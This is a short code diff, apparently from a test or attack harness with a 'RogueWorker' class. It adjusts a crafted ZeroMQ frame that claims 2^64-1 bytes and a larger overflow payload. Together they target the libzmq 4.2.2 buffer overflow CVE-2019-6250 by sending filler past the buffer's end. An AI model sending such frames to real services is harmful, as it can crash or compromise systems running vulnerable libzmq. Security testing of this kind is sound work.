@@ -153,6 +153,6 @@ class RogueWorker:
 
 
 #: A frame that says it has 2^64-1 bytes. libzmq 4.2.2 takes it for one that fits its buffer (CVE-2019-6250) and
-#: receives what follows beyond the buffer's end: send `OVERFLOW` after it, in pieces.
+#: receives what follows beyond the buffer's end: send `OVERFLOW` after it, again and again.
 HUGE_FRAME = b"\x02" + b"\xff" * 8
-OVERFLOW = b"A" * 8192
+OVERFLOW = b"A" * 65536
